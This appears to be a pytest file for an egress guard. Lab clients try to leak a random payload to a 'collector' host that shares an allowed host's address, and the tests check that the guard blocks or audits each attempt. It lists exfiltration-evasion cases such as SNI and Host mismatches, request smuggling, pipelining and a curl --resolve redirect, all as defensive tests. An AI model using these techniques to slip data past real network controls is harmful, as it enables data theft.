# SPDX-License-Identifier: MIT
"""T19, T24, T25, T28: an allowed address is shared with a stranger, or only pretended.

``allowed.test`` has the collector's address, as on a content network: what reaches that address
under another name is the thief's. Each case also goes to ``allowed.test`` itself, and arrives.
"""

from __future__ import annotations

import secrets
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from lab import Lab
from lab.collector import Patient
from lab.guard import DENIED, Guarded
from lab.network import COLLECTOR

pytestmark = pytest.mark.root

Guard = Callable[..., Guarded]

CLIENT = Path(__file__).with_name("streams.py")
POLICY = """\
version: 1
allow:
  - allowed.test
  - http://allowed.test
  - http://allowed.test:3128
  - allowed.test:8443
"""
QUICK_MS = 50
"""From the denial to the program's error."""

# By the port that they are for. What they send says `NAME`, or cannot say a name at all.
SHOWING = {
    443: ("tls", "tls-1.2", "hello-by-bytes", "hello-in-tiny-records", "large-hello"),
    80: ("http", "http-by-bytes"),
    8443: ("http", "hello-by-bytes"),
}
ODD = {
    443: ("no-sni", "encrypted-hello", "two-server-names", "urgent-byte", "sendfile", "ssh"),
    80: ("two-targets", "two-hosts", "smuggled", "raw"),
}
"""Denied even where the name is right: whom they are for cannot be known."""
SECOND = {3128: ("second-request", "pipelined", "absolute-target", "connect")}
"""They begin with an allowed name."""


@pytest.fixture
def shared(lab: Lab) -> Lab:
    """``allowed.test`` at the collector's address, and a server there that takes more requests."""
    lab.dns.zone["allowed.test"] = COLLECTOR[:1]
    lab.listen([], tcp={3128: lambda: Patient(lab.collector)}, bound=COLLECTOR[:1])
    return lab


def pairs(cases: dict[int, tuple[str, ...]]) -> list[Any]:
    """``(case, port)`` for ``parametrize``."""
    found = ((case, port) for port, names in cases.items() for case in names)
    return [pytest.param(case, port, id=f"{case}-{port}") for case, port in found]


def client(
    lab: Lab, case: str, port: int, name: str = "allowed.test", *, place: str = "allowed.test"
) -> tuple[list[str], bytes]:
    """A command that connects to ``place``, and the payload that it will try to send."""
    payload = secrets.token_hex(24)
    path = lab.directory / "payload"
    path.write_text(payload)
    command = f'exec "$0" "$1" {case} {place} {port} {name} < {path}'
    return ["sh", "-c", command, sys.executable, str(CLIENT)], payload.encode()


def ended(run: Guarded) -> tuple[str, int]:
    """How the client's connection ended, and after how many milliseconds."""
    how, _, after = run.stdout.strip().rpartition(" ")
    return how, int(after)


def streams(run: Guarded) -> list[dict[str, Any]]:
    """What the guard saw of streams."""
    return run.events("streamseen")


@pytest.mark.parametrize(("case", "port"), pairs(SHOWING) + pairs(SECOND))
def test_unguarded_the_stranger_gets_it(shared: Lab, case: str, port: int) -> None:
    command, payload = client(shared, case, port, "collector.test")
    shared.run(command)
    assert shared.collector.received(payload)


@pytest.mark.parametrize(("case", "port"), pairs(SHOWING) + pairs(SECOND))
def test_another_name_is_cut(shared: Lab, leakstop: Guard, case: str, port: int) -> None:
    command, payload = client(shared, case, port, "collector.test")
    run = leakstop(command, mode="block", policy=POLICY)
    assert shared.collector.bytes_of(payload) == 0
    assert run.code == DENIED, run.stderr
    (denied,) = [seen for seen in streams(run) if seen["applied"] == "deny"]
    assert (denied["name"], denied["reason"]) == ("collector.test", "not-named")
    assert denied["port"] == port
    (finding,) = run.findings("denied-flow")
    assert "collector.test" in finding["destination"]
    assert Path(finding["process"]["exe"]).name.startswith("python")
    how, after_ms = ended(run)
    assert how != "answered"
    assert after_ms < 1000


@pytest.mark.parametrize(("case", "port"), pairs(SHOWING) + pairs(SECOND))
def test_in_audit_another_name_is_listed(
    shared: Lab, leakstop: Guard, case: str, port: int
) -> None:
    command, payload = client(shared, case, port, "collector.test")
    run = leakstop(command, mode="audit", policy=POLICY)
    assert shared.collector.received(payload)
    assert run.code == 0
    assert ("collector.test", "deny", "allow") in {
        (seen["name"], seen["policy"], seen["applied"]) for seen in streams(run)
    }


@pytest.mark.parametrize("mode", ["audit", "block"])
@pytest.mark.parametrize(("case", "port"), pairs(SHOWING))
def test_the_allowed_name_passes(
    shared: Lab, leakstop: Guard, mode: str, case: str, port: int
) -> None:
    command, payload = client(shared, case, port)
    run = leakstop(command, mode=mode, policy=POLICY)
    assert shared.collector.received(payload)
    assert (run.code, streams(run), run.findings()) == (0, [], [])


@pytest.mark.parametrize(("case", "port"), pairs(ODD))
def test_what_shows_no_name_is_cut(shared: Lab, leakstop: Guard, case: str, port: int) -> None:
    command, payload = client(shared, case, port)
    run = leakstop(command, mode="block", policy=POLICY)
    assert shared.collector.bytes_of(payload) == 0
    assert run.code == DENIED, run.stderr
    assert [seen["reason"] for seen in streams(run)] == ["identity"]
    assert ended(run)[0] != "answered"


@pytest.mark.parametrize(("case", "port"), pairs(ODD))
def test_in_audit_what_shows_no_name_is_listed(
    shared: Lab, leakstop: Guard, case: str, port: int
) -> None:
    command, payload = client(shared, case, port)
    run = leakstop(command, mode="audit", policy=POLICY)
    assert shared.collector.received(payload)
    assert [(seen["reason"], seen["applied"]) for seen in streams(run)] == [("identity", "allow")]
    assert run.code == 0


@pytest.mark.parametrize(("case", "port"), pairs(ODD))
@pytest.mark.parametrize("rule", ["tcp://allowed.test:*", f"{COLLECTOR[0]}/32:*"])
def test_a_rule_can_trust_the_address(
    shared: Lab, leakstop: Guard, rule: str, case: str, port: int
) -> None:
    place = COLLECTOR[0] if rule.startswith(COLLECTOR[0]) else "allowed.test"
    command, payload = client(shared, case, port, place=place)
    run = leakstop(command, mode="block", policy=f'version: 1\nallow: "{rule}"\n')
    assert shared.collector.received(payload)
    assert (run.code, streams(run), run.findings()) == (0, [], [])


def test_any_protocol_on_another_port(shared: Lab, leakstop: Guard) -> None:
    command, payload = client(shared, "raw", 8443)
    run = leakstop(command, mode="block", policy=POLICY)
    assert shared.collector.received(payload)
    assert (run.code, streams(run)) == (0, [])


def test_an_allowed_name_at_a_foreign_address(lab: Lab, leakstop: Guard) -> None:
    """T19: only the resolver's own answers lead anywhere."""
    curl = ["curl", "-sS", "--resolve", f"home.test:443:{COLLECTOR[0]}", "https://home.test/"]
    run = leakstop(curl, mode="block", policy="version: 1\nallow: home.test\n")
    assert run.code == DENIED
    assert lab.collector.connections == []


def test_the_program_learns_at_once(shared: Lab, leakstop: Guard) -> None:
    """The connection is ended, not left hanging: five tries, the best counts on a busy machine."""
    waits = []
    for _ in range(5):
        command, _ = client(shared, "http", 80, "collector.test")
        how, after_ms = ended(leakstop(command, mode="block", policy=POLICY))
        assert how == "ConnectionAbortedError"
        waits.append(after_ms)
    assert min(waits) < QUICK_MS, waits
